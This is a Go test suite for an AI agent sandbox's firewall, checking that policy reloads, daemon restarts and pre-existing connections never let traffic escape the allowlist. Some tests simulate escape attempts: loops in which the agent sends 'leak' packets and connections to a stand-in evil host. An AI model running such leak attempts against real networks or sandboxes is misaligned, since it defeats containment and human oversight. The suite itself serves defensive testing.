package main

import (
	"bufio"
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"net"
	"net/netip"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"

	"golang.org/x/sys/unix"

	"github.com/org/claude-sandbox/firewall/control"
	"github.com/org/claude-sandbox/firewall/live"
	"github.com/org/claude-sandbox/internal/exitcode"
	"github.com/org/claude-sandbox/internal/test/netnstest"
	"github.com/org/claude-sandbox/internal/test/testenv"
)

// ask runs a command that speaks to the box's running firewall, as root.
func (b *box) ask(command string, flags ...string) result {
	b.t.Helper()
	args := append([]string{command, "--audit", b.path("run/audit.jsonl")}, flags...)
	return b.finish(b.initCommand(args...))
}

func (b *box) status() (s live.Status) {
	b.t.Helper()
	r := b.ask("status", "--json")
	r.mustExit(b.t, 0)
	if err := json.Unmarshal([]byte(r.stdout), &s); err != nil {
		b.t.Fatalf("%q: %v", r.stdout, err)
	}
	return s
}

// eventually waits until ok says yes.
func eventually(t testing.TB, what string, ok func() bool) {
	t.Helper()
	for deadline := time.Now().Add(runLimit); !ok(); time.Sleep(20 * time.Millisecond) {
		if time.Now().After(deadline) {
			t.Fatalf("it never happens: %s", what)
		}
	}
}

// dialAgent opens a TCP connection of the agent's in the sandbox.
func dialAgent(t testing.TB, ns *netnstest.Namespace, addr string) net.Conn {
	t.Helper()
	target := netip.MustParseAddrPort(addr)
	var fd int
	var err error
	ns.As(agentUID, func() {
		if fd, err = unix.Socket(unix.AF_INET, unix.SOCK_STREAM|unix.SOCK_CLOEXEC, 0); err == nil {
			err = unix.Connect(fd, &unix.SockaddrInet4{Port: int(target.Port()), Addr: target.Addr().As4()})
		}
	})
	if err != nil {
		t.Fatalf("connecting to %s: %v", addr, err)
	}
	f := os.NewFile(uintptr(fd), addr)
	defer f.Close()
	conn, err := net.FileConn(f)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { conn.Close() })
	return conn
}

// stillServed asks for a page over a connection that exists. It is judged by
// the answer: an error, or none within the limit, is no.
func stillServed(conn net.Conn, limit time.Duration) bool {
	_ = conn.SetDeadline(time.Now().Add(limit))
	if _, err := fmt.Fprint(conn, "GET / HTTP/1.1\r\nHost: kept\r\n\r\n"); err != nil {
		return false
	}
	line, err := bufio.NewReader(conn).ReadString('\n')
	return err == nil && strings.Contains(line, "200")
}

const (
	yes = 5 * time.Second
	no  = 700 * time.Millisecond
)

// resolveAsAgent has the agent resolve and fetch, which opens the address.
func resolveAsAgent(t testing.TB, in *internet, b *box, name string) error {
	t.Helper()
	dig := asAgent(exec.Command(testenv.Program(t, "dig"), "+short", "+tries=1", "+time=3", "@"+dnsAddr, name))
	var out []byte
	var err error
	in.Sandbox.Do(func() { out, err = dig.Output() })
	if err == nil && len(strings.TrimSpace(string(out))) == 0 {
		err = fmt.Errorf("%s has no address", name)
	}
	return err
}

func mustResolve(t testing.TB, in *internet, b *box, name string) {
	t.Helper()
	if err := resolveAsAgent(t, in, b, name); err != nil {
		t.Fatal(err)
	}
}

const (
	beforeReload = `{"network": {"guard": "off", "allow": ["ok.test", "other.test", "` + thirdAddr + `:80"]}}`
	afterReload  = `{"network": {"guard": "off", "allow": ["ok.test", "new.test"]}}`
)

func TestReloadCutsWhatIsNoLongerAllowedAndKeepsTheRest(t *testing.T) {
	in := newInternet(t)
	b := newBox(t, in.Sandbox, beforeReload)
	startSidecar(t, b)
	mustResolve(t, in, b, "ok.test")
	mustResolve(t, in, b, "other.test")
	kept := dialAgent(t, in.Sandbox, okAddr+":80")
	byName := dialAgent(t, in.Sandbox, otherAddr+":80")
	byAddress := dialAgent(t, in.Sandbox, thirdAddr+":80")
	for _, conn := range []net.Conn{kept, byName, byAddress} {
		if !stillServed(conn, yes) {
			t.Fatalf("%s is not served before the reload", conn.RemoteAddr())
		}
	}
	if err := resolveAsAgent(t, in, b, "new.test"); err == nil {
		t.Error("new.test resolves before the reload")
	}

	b.write("policy.jsonc", afterReload)
	r := b.ask("reload")
	r.mustExit(t, 0)

	if !stillServed(kept, yes) {
		t.Error("a connection that the new policy allows did not live on")
	}
	wire := in.Capture(t)
	for _, conn := range []net.Conn{byName, byAddress} {
		if stillServed(conn, no) {
			t.Errorf("a connection to %s, which is no longer allowed, lives on", conn.RemoteAddr())
		}
	}
	for _, addr := range []string{otherAddr, thirdAddr} {
		if out, err := curlAsAgent(t, in, "http://"+addr+"/"); err == nil {
			t.Errorf("%s is still open: %s", addr, out)
		}
	}
	if err := resolveAsAgent(t, in, b, "other.test"); err == nil {
		t.Error("other.test still resolves")
	}
	wire.Nothing("what the reload closed", toAllowed)
	mustResolve(t, in, b, "new.test")
	if out, err := curlAsAgent(t, in, "http://"+newAddr+"/"); err != nil {
		t.Errorf("what the reload opened: %v: %s", err, out)
	}
	s := b.status()
	if s.Policy.Reloads != 1 || !s.Ready || s.Drift.Restored != 0 {
		t.Errorf("status: %+v", s)
	}
	b.ask("verify").mustExit(t, 0)
}

// A connection outlives the time of the address that it goes to; a reload must
// still know the name.
func TestReloadKeepsAConnectionWhoseAddressHasRunOut(t *testing.T) {
	in := newInternet(t)
	b := newBox(t, in.Sandbox, beforeReload)
	startSidecar(t, b)
	mustResolve(t, in, b, "ok.test")
	kept := dialAgent(t, in.Sandbox, okAddr+":80")
	if !stillServed(kept, yes) {
		t.Fatal("not served before the reload")
	}
	b.inNamespace("ipset", "flush", "SBX-LEARNED4") // as if the time were over
	b.ask("reload").mustExit(t, 0)
	if !stillServed(kept, yes) {
		t.Error("the connection was cut")
	}
}

// A transfer goes on while the policy is reloaded again and again, whether or
// not it passes the guard.
func TestTransferSurvivesReloads(t *testing.T) {
	for _, guard := range []string{"off", "sni"} {
		t.Run(guard, func(t *testing.T) {
			in := newInternet(t)
			guarded := func(policy string) string { return strings.ReplaceAll(policy, `"off"`, `"`+guard+`"`) }
			b := newBox(t, in.Sandbox, guarded(beforeReload))
			startSidecar(t, b)
			mustResolve(t, in, b, "ok.test")
			conn := dialAgent(t, in.Sandbox, okAddr+":80")
			_ = conn.SetDeadline(time.Now().Add(runLimit))
			if _, err := fmt.Fprintf(conn, "GET /stream HTTP/1.1\r\nHost: ok.test\r\n\r\n"); err != nil {
				t.Fatal(err)
			}
			r := bufio.NewReader(conn)
			tick := func() error {
				for {
					line, err := r.ReadString('\n')
					if err != nil || strings.HasPrefix(line, "tick") {
						return err
					}
				}
			}
			for i := range 6 {
				b.write("policy.jsonc", guarded([]string{afterReload, beforeReload}[i%2]))
				b.ask("reload").mustExit(t, 0)
				for range 20 {
					if err := tick(); err != nil {
						t.Fatalf("after %d reloads: %v", i+1, err)
					}
				}
			}
			b.write("policy.jsonc", guarded(`{"network": {"guard": "off", "allow": ["new.test"]}}`))
			b.ask("reload").mustExit(t, 0)
			for range 3000 { // far more than what was under way
				_ = conn.SetDeadline(time.Now().Add(no))
				if tick() != nil {
					return
				}
			}
			t.Error("the transfer lives on")
		})
	}
}

// While one policy takes the place of the other, what neither allows stays
// closed: the agent tries without a pause.
func TestAttackDuringReload(t *testing.T) {
	in := newInternet(t)
	b := newBox(t, in.Sandbox, beforeReload)
	startSidecar(t, b)
	wire := in.Capture(t)
	ctx, cancel := context.WithCancel(context.Background())
	done := make(chan struct{})
	go func() {
		defer close(done)
		for ctx.Err() == nil {
			in.Sandbox.As(agentUID, func() {
				for _, to := range []string{evilAddr + ":80", evilAddr + ":443", dnsAddr + ":53", okAddr + ":22"} {
					if conn, err := net.DialTimeout("udp", to, time.Second); err == nil {
						_, _ = conn.Write([]byte("leak"))
						conn.Close()
					}
				}
				fd, err := unix.Socket(unix.AF_INET, unix.SOCK_STREAM|unix.SOCK_NONBLOCK|unix.SOCK_CLOEXEC, 0)
				if err == nil {
					_ = unix.Connect(fd, &unix.SockaddrInet4{Port: 80, Addr: netip.MustParseAddr(evilAddr).As4()})
					unix.Close(fd)
				}
			})
		}
	}()
	defer func() { cancel(); <-done }() // also when the test ends early: the namespace goes with it
	for i := range 4 {
		b.write("policy.jsonc", []string{afterReload, quiet, beforeReload, afterReload}[i])
		b.ask("reload").mustExit(t, 0)
	}
	cancel()
	<-done
	wire.Nothing("during reloads", isNeighbour)
}

func TestReloadOfABadPolicyLeavesTheOldOne(t *testing.T) {
	in := newInternet(t)
	for name, tt := range map[string]struct {
		policy string
		code   int
		says   string
	}{
		"syntax":      {`{"network": {`, exitcode.Config, "the old policy stays in force"},
		"unknown key": {`{"network": {"alow": ["x.test"]}}`, exitcode.Config, `did you mean "allow"`},
	} {
		t.Run(name, func(t *testing.T) {
			b := newBox(t, in.Sandbox, beforeReload)
			cmd := startSidecar(t, b)
			before := b.status()
			b.write("policy.jsonc", tt.policy)
			r := b.ask("reload")
			r.mustExit(t, tt.code)
			r.mustSay(t, tt.says, "sbx-init: error: ", "sbx-init: hint: ")
			after := b.status()
			if after.Policy != before.Policy || !after.Ready {
				t.Errorf("status before %+v, after %+v", before, after)
			}
			mustResolve(t, in, b, "ok.test")
			if out, err := curlAsAgent(t, in, "http://"+okAddr+"/"); err != nil {
				t.Errorf("the old policy is not in force: %v: %s", err, out)
			}
			if err := cmd.Process.Signal(syscall.SIGTERM); err != nil {
				t.Fatal(err)
			}
			_ = cmd.Wait()
		})
	}
}

func TestReloadChangesTheMode(t *testing.T) {
	in := newInternet(t)
	b := newBox(t, in.Sandbox, quiet)
	startSidecar(t, b)
	b.write("policy.jsonc", beforeReload)
	b.ask("reload").mustExit(t, 0)
	mustResolve(t, in, b, "ok.test")
	conn := dialAgent(t, in.Sandbox, okAddr+":80")
	if !stillServed(conn, yes) {
		t.Error("from none to allowlist: not served")
	}
	b.write("policy.jsonc", quiet)
	b.ask("reload").mustExit(t, 0)
	if stillServed(conn, no) {
		t.Error("from allowlist to none: the connection lives on")
	}
	if err := resolveAsAgent(t, in, b, "ok.test"); err == nil {
		t.Error("from allowlist to none: names still resolve")
	}
}

func TestAttackAgentSpeaksToTheFirewall(t *testing.T) {
	in := newInternet(t)
	b := newBox(t, in.Sandbox, beforeReload)
	startSidecar(t, b)
	socket := control.Path(b.path("run/audit.jsonl"), true)
	if info, err := os.Stat(socket); err != nil || info.Mode().Perm() != 0o600 {
		t.Errorf("the control socket: %v, %v", info, err)
	}
	// Even when somebody opened the socket's file and folder to everybody.
	for mode, folder := range map[os.FileMode]os.FileMode{0o600: 0o700, 0o666: 0o755} {
		if err := errors.Join(os.Chmod(socket, mode), os.Chmod(filepath.Dir(socket), folder)); err != nil {
			t.Fatal(err)
		}
		for _, command := range []string{"reload", "amend", "status", "verify"} {
			cmd := asAgent(exec.Command(filepath.Join(b.bin, "sbx-init"), command, "--audit", b.path("run/audit.jsonl")))
			cmd.Stdin = strings.NewReader(`{"add": {"allow": ["*.test"]}}`)
			r := b.finish(cmd)
			r.mustExit(t, exitcode.Internal)
			r.mustSay(t, "root")
		}
	}
	if s := b.status(); s.Policy.Reloads != 0 {
		t.Errorf("status: %+v", s)
	}
}

// inNamespace runs a program as root in the sandbox's network.
func (b *box) inNamespace(name string, args ...string) string {
	b.t.Helper()
	var out []byte
	var err error
	b.ns.Do(func() { out, err = exec.Command(name, args...).CombinedOutput() })
	if err != nil {
		b.t.Fatalf("%s %q: %v: %s", name, args, err, out)
	}
	return string(out)
}

// A connection from before the firewall must not pass for established.
func TestAttackConnectionFromBeforeTheFirewall(t *testing.T) {
	in := newInternet(t)
	b := newBox(t, in.Sandbox, beforeReload)
	// So that the kernel tracks connections already, as beside an engine's rules.
	b.inNamespace("iptables", "-A", "OUTPUT", "-m", "conntrack", "--ctstate", "INVALID", "-j", "ACCEPT")
	evil := dialAgent(t, in.Sandbox, evilAddr+":80")
	allowed := dialAgent(t, in.Sandbox, thirdAddr+":80")
	for _, conn := range []net.Conn{evil, allowed} {
		if !stillServed(conn, yes) {
			t.Fatal("not served before the firewall")
		}
	}
	startSidecar(t, b)
	wire := in.Capture(t)
	if stillServed(evil, no) {
		t.Error("a connection to a host off the allowlist lives on")
	}
	wire.Nothing("a connection from before", func(p netnstest.Packet) bool { return toAllowed(p) || p.Dst.String() == thirdAddr })
	if !stillServed(allowed, yes) {
		t.Error("a connection to an allowed address was cut")
	}
}

func TestAttackBetweenTheDaemonsDeathAndItsReturn(t *testing.T) {
	in := newInternet(t)
	b := newBox(t, in.Sandbox, beforeReload)
	cmd := startSidecar(t, b)
	mustResolve(t, in, b, "other.test")
	old := dialAgent(t, in.Sandbox, otherAddr+":80")
	if !stillServed(old, yes) {
		t.Fatal("not served before")
	}
	if err := cmd.Process.Kill(); err != nil {
		t.Fatal(err)
	}
	_ = cmd.Wait()
	wire := in.Capture(t)
	if out, err := curlAsAgent(t, in, "http://"+evilAddr+"/"); err == nil {
		t.Errorf("open while nobody is there: %s", out)
	}

	// It comes back with a narrower policy, in the same namespace.
	b.write("policy.jsonc", afterReload)
	back := newBox(t, in.Sandbox, afterReload)
	back.dir = b.dir
	ctx, cancel := context.WithCancel(context.Background())
	done := make(chan struct{})
	go func() {
		defer close(done)
		for ctx.Err() == nil {
			in.Sandbox.As(agentUID, func() {
				if conn, err := net.DialTimeout("udp", evilAddr+":53", time.Second); err == nil {
					_, _ = conn.Write([]byte("leak"))
					conn.Close()
				}
			})
		}
	}()
	startSidecar(t, back)
	cancel()
	<-done
	wire.Nothing("while the daemon comes back", func(p netnstest.Packet) bool { return isNeighbour(p) || p.Dst.String() == otherAddr })
	after := in.Capture(t)
	if stillServed(old, no) {
		t.Error("a connection that the new policy does not allow lives on")
	}
	if out, err := curlAsAgent(t, in, "http://"+otherAddr+"/"); err == nil {
		t.Errorf("an address that the dead daemon learnt is still open: %s", out)
	}
	after.Nothing("what the dead daemon had opened", isNeighbour)
	mustResolve(t, in, back, "ok.test")
	if out, err := curlAsAgent(t, in, "http://"+okAddr+"/"); err != nil {
		t.Errorf("it does not work again: %v: %s", err, out)
	}
}

func TestStatusOfASingleContainer(t *testing.T) {
	in := newInternet(t)
	b := newBox(t, in.Sandbox, openPolicy)
	cmd := b.command("sh", "-c", "echo ready; read line; exit 7")
	in0, err := cmd.StdinPipe()
	if err != nil {
		t.Fatal(err)
	}
	out, err := cmd.StdoutPipe()
	if err != nil {
		t.Fatal(err)
	}
	b.start(cmd)
	if line, err := bufio.NewReader(out).ReadString('\n'); err != nil || line != "ready\n" {
		t.Fatalf("%q, %v", line, err)
	}
	_ = resolveAsAgent(t, in, b, "evil.test")
	mustResolve(t, in, b, "ok.test")
	s := b.status()
	if s.Topology != "single" || s.Mode != "allowlist" || s.Resolver.Port == 0 || len(s.Policy.SHA256) != 64 || s.Allowed < 1 || s.Denied < 1 {
		t.Errorf("status: %+v", s)
	}
	// Programs of ours run and end beside the command, again and again.
	for range 5 {
		b.ask("reload").mustExit(t, 0)
	}
	if _, err := in0.Write([]byte("\n")); err != nil {
		t.Fatal(err)
	}
	if err := waitFor(cmd); exitCodeOf(err) != 7 {
		t.Errorf("%v, want exit 7", err)
	}
}
